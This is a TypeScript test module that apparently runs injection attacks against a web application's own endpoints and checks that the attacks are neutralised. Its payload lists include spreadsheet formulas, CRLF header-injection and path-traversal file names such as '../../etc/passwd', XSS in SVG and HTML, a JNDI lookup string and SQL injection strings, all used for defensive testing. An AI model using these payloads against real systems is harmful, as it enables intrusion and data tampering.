import { request } from 'node:http';
import { rows } from '@sluice/kernel/db';
import { makeSheet } from '@sluice/test/fixtures/sheets';
import { rawZip } from '@sluice/test/fixtures/raw-zip';
import { type Arena } from './arena';
import { type Attack, type AttackPart, expectSame, expectStatus } from './attack';
import { type Called } from './call';

/** Cells that a spreadsheet would run, and cells that only look so. */
const FORMULAS = ['=1+1', '+cmd', '-2+3', '@SUM(A1)', '\t=1', '\r=1', '=HYPERLINK("http://x","y")', '＝1+1'];
const PLAIN = ['+628121000001', '-5', '0812 000-111', 'a=b'];
const LINES = ['a\nb', 'a\r\nX-Evil: 1', 'a\u2028b', 'a\0b', '\u001b[2J', '{"level":"error"}'];

/** A cell that begins as a formula does, quoted or not, at the beginning of a line or behind a comma. */
const RUNS = /(^|,|\n)"?[=@]|(^|,|\n)"?[+-](?![\d (])|(^|,|\n)"?[\t\r]|(^|,|\n)"?[＝＋－＠]/;

function expectHarmless(what: string, { status, text }: Called): void {
  if (status !== 200) throw new Error(`${what} was answered ${status}: ${text.slice(0, 200)}`);
  const found = RUNS.exec(text.replace(/^\uFEFF/, '').replaceAll('\r\n', '\n'));
  if (found)
    throw new Error(
      `${what} has a cell that runs: ${text.slice(Math.max(0, found.index - 20), found.index + 60)}`,
    );
}

const SPREADSHEETS: readonly Attack[] = [
  {
    name: 'formulas in what omr exports',
    async run(arena) {
      const bytes = await makeSheet({ dpi: 60, taskId: '14900113' });
      const zip = rawZip(
        FORMULAS.filter((name) => !/[\t\r]/.test(name)).map((name, n) => ({
          name: `${name}${n}.jpg`.replaceAll('/', ''),
          bytes,
          method: 0,
        })),
      );
      const body = new FormData();
      body.append('file', new Blob([new Uint8Array(zip)]), '=cmd.zip');
      body.append('task_id', '14900113');
      const made = await arena.call('user', 'POST', '/api/batches/upload', {
        body,
        headers: { Prefer: 'wait=20' },
      });
      const { batch_id: id } = made.json as { batch_id: string };
      expectHarmless('export.csv', await arena.call('user', 'GET', `/api/batches/${id}/export.csv`));
    },
  },
  {
    name: 'formulas in what migration says of rows',
    async run(arena) {
      const header = 'kode_paket,nama_paket,harga,tanggal_berangkat,durasi_hari';
      const quoted = (cell: string): string => `"${cell.replaceAll('"', '""')}"`;
      const lines = [...FORMULAS, ...PLAIN].map(
        (cell, n) => `F-${n},${quoted(cell)},${quoted(cell)},2029-01-01,${quoted(cell)}`,
      );
      const body = new FormData();
      body.append('import_type', 'package');
      body.append('file', new Blob([[header, ...lines, ''].join('\n')]), 'formulas.csv');
      const made = await arena.call('owner', 'POST', '/api/v1/onboarding/migration/upload', { body });
      const { job_id: id } = made.json as { job_id: string };
      const path = `/api/v1/onboarding/migration/${id}`;
      await arena.call('owner', 'POST', `${path}/validate`);
      await untilPending(arena, path);
      const errors = await arena.call('owner', 'GET', `${path}/errors`);
      expectHarmless('errors', errors);
      expectHarmless('failed-rows.csv', await arena.call('owner', 'GET', `${path}/failed-rows.csv`));
      if (!errors.text.includes('0812 000-111') || errors.text.includes("'0812"))
        throw new Error('A telephone number was changed');
    },
  },
  {
    name: 'formulas in what audience gives back as CSV',
    async run(arena) {
      const records = FORMULAS.map((text, n) => ({
        email: `f${n}@example.org`,
        first_name: text,
        [`=column${n}`]: text,
      }));
      const json = { upload_name: 'formulas', records };
      const made = await arena.call('user', 'POST', '/api/audience/batch-upload', { json });
      const { upload_id: id } = made.json as { upload_id: string };
      expectHarmless(
        'the CSV',
        await arena.call('user', 'GET', `/api/audience/batch-upload/${id}?format=csv`),
      );
    },
  },
  {
    name: 'formulas in what revenue says of records',
    async run(arena) {
      const lines = FORMULAS.map((cell) => `${cell.replace(/[\t\r]/g, ' ')}|x`);
      const body = new FormData();
      body.append(
        'file',
        new Blob([
          ['HN|CHANGWAT|DOB|SEX|PERSON_ID', ...lines.map((line) => `${line}|=1|@x|-y`), ''].join('\n'),
        ]),
        'PAT6805.txt',
      );
      const made = await arena.call('user', 'POST', '/api/revenue/upload', {
        body,
        headers: { Prefer: 'wait=20' },
      });
      const { fileId } = (made.json as { data: { fileId: string } }).data;
      const errors = await arena.call('user', 'GET', `/api/revenue/files/${fileId}/errors?format=csv`);
      if (errors.status === 200) expectHarmless('errors', errors);
    },
  },
];

async function untilPending(arena: Arena, path: string): Promise<void> {
  for (;;) {
    const { json } = await arena.call('owner', 'GET', `${path}/status`);
    if (!['validating', 'importing'].includes((json as { status: string }).status)) return;
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
}

/** One line of output for each line of the log, however the client words things. */
function logAttacks(lines: readonly string[]): Attack[] {
  return [
    {
      name: 'lines of the log in what a client sends',
      async run(arena) {
        for (const text of LINES) {
          const safe = encodeURIComponent(text);
          await arena.call('user', 'GET', `/api/batches/${safe}?status=${safe}`);
          await arena.call('anonymous', 'POST', '/api/auth/login', {
            json: { username: text, password: text },
          });
          const body = new FormData();
          body.append('file', new Blob(['PK']), `${text}.zip`);
          body.append('has_qr', 'true');
          await arena.call('user', 'POST', '/api/batches/upload', { body });
        }
        await raw(arena.url(), 'GET', '/healthz', {
          'X-Request-Id': 'a b\tc',
          'User-Agent': '{"level":"error"}',
        });
        for (const line of lines) {
          try {
            JSON.parse(line);
          } catch {
            throw new Error(`A line of the log is no JSON: ${line.slice(0, 200)}`);
          }
          if (/[\u0000-\u0008\u000b-\u001f]/.test(line))
            throw new Error(`A line of the log has controls: ${JSON.stringify(line.slice(0, 200))}`);
        }
      },
    },
    {
      name: 'a request id of the client’s with anything in it',
      async run(arena) {
        for (const id of ['a b', '"><script>', 'x'.repeat(500), '${jndi:ldap://x}']) {
          const { headers } = await arena.call('user', 'GET', '/healthz', {
            headers: { 'X-Request-Id': id },
          });
          if (headers.get('X-Request-Id') === id) throw new Error(`${id.slice(0, 40)} was taken over`);
        }
        const sane = await arena.call('user', 'GET', '/healthz', {
          headers: { 'X-Request-Id': 'sane-1234' },
        });
        expectSame('a sane id', sane.headers.get('X-Request-Id'), 'sane-1234');
      },
    },
  ];
}

/** Headers as they are, which fetch would refuse. */
function raw(url: string, method: string, path: string, headers: Record<string, string>): Promise<number> {
  return new Promise((resolve, reject) => {
    const sending = request(`${url}${path}`, { method, headers, agent: false }, (answer) => {
      answer.resume();
      resolve(answer.statusCode as number);
    });
    sending.on('error', reject).end();
  });
}

const NAMES = [
  'a".html',
  "a'; filename=b.html",
  'a\r\nSet-Cookie: x=1',
  '../../etc/passwd',
  'CON',
  '‮gpj.exe',
  'ä'.repeat(200),
  'a\\b.svg',
];

const DISGUISES: readonly Attack[] = [
  {
    name: 'files that are called so as to become headers, paths or pages when they are given back',
    async run(arena) {
      for (const name of NAMES) {
        const body = new FormData();
        body.append('file', new Blob(['<script>alert(1)</script>\n1|2\n']), `${name}.txt`);
        const made = await arena.call('user', 'POST', '/api/revenue/upload', {
          body,
          headers: { Prefer: 'wait=20' },
        });
        const fileId = (made.json as { data?: { fileId?: string } }).data?.fileId;
        if (fileId === undefined) continue;
        const file = await arena.call('user', 'GET', `/api/revenue/files/${fileId}/download`);
        expectStatus(file, 200);
        const disposition = file.headers.get('Content-Disposition') ?? '';
        if (!disposition.startsWith('attachment')) throw new Error(`${name} comes back as ${disposition}`);
        if (/[\r\n]/.test(disposition) || file.headers.get('Set-Cookie') !== null)
          throw new Error(`${name} has become a header`);
        expectSame('sniffing', file.headers.get('X-Content-Type-Options'), 'nosniff');
        if (/html|svg|javascript/.test(file.headers.get('Content-Type') ?? ''))
          throw new Error(`${name} comes back as a page`);
      }
    },
  },
  {
    name: 'a page or a drawing in the place of an image',
    async run(arena) {
      const zip = rawZip([
        { name: '1.jpg', bytes: await makeSheet({ dpi: 60, taskId: '14900113' }), method: 0 },
        { name: '2.jpg', bytes: Buffer.from('<html><script>alert(1)</script>'), method: 0 },
        {
          name: '3.svg',
          bytes: Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
          method: 0,
        },
        { name: '4.png', bytes: Buffer.from('GIF89a<script>alert(1)</script>'), method: 0 },
      ]);
      const body = new FormData();
      body.append('file', new Blob([new Uint8Array(zip)]), 'x.zip');
      body.append('task_id', '14900113');
      const made = await arena.call('user', 'POST', '/api/batches/upload', {
        body,
        headers: { Prefer: 'wait=20' },
      });
      const { batch_id: id } = made.json as { batch_id: string };
      for (let index = 1; index <= 4; index++) {
        const image = await arena.call('user', 'GET', `/api/batches/${id}/sheets/${index}/image`);
        const type = image.headers.get('Content-Type') ?? '';
        const isRaster = /^image\/(jpeg|png|tiff|webp|bmp|gif)/.test(type);
        if (image.status === 200 && !isRaster) throw new Error(`Sheet ${index} comes back as ${type}`);
        if (image.status === 200)
          expectSame('sniffing', image.headers.get('X-Content-Type-Options'), 'nosniff');
      }
    },
  },
];

/** Text in every place of every query, which must not reach SQL as anything but text. */
const QUERIES = [
  "'",
  "' OR 1=1 --",
  '1; DROP TABLE users',
  '%',
  '_',
  '\\',
  '$1',
  '{"$gt":""}',
  '\u0000',
  '99999999999999999999',
  '1e999',
  'NaN',
];
const QUERY_PATHS = [
  '/api/batches?status=',
  '/api/batches?limit=',
  '/api/batches?offset=',
  '/api/revenue/batches?status=',
  '/api/revenue/files?batchId=',
  '/api/revenue/statistics?from=',
  '/api/v1/onboarding/migration?status=',
  '/api/v1/onboarding/migration?sort_by=',
  '/api/v1/onboarding/jamaah?q=',
  '/api/v1/onboarding/jamaah?sort_by=',
  '/api/v1/onboarding/packages?harga=',
  '/api/audience/batch-upload?limit=',
  '/api/audience/batch-upload?skip=',
  '/api/contents?creator=',
  '/api/audit?action=',
  '/api/audit?subject_id=',
  '/api/ops/jobs?state=',
  '/api/users?limit=',
];

const SQL: Attack = {
  name: 'SQL in every query',
  async run(arena) {
    const before = await rows(arena.db, 'SELECT count(*)::int AS users FROM users');
    for (const path of QUERY_PATHS)
      for (const text of QUERIES) {
        const answer = await arena.call('admin', 'GET', `${path}${encodeURIComponent(text)}`);
        if (answer.status >= 500) throw new Error(`${path}${text} was answered ${answer.status}`);
      }
    expectSame(
      'the number of users',
      await rows(arena.db, 'SELECT count(*)::int AS users FROM users'),
      before,
    );
  },
};

/** @param lines all that the programs have printed */
export function injection(lines: readonly string[]): AttackPart {
  return {
    name: 'what is sent becomes more than data',
    attacks: () => [...SPREADSHEETS, ...DISGUISES, SQL, ...logAttacks(lines)],
  };
}
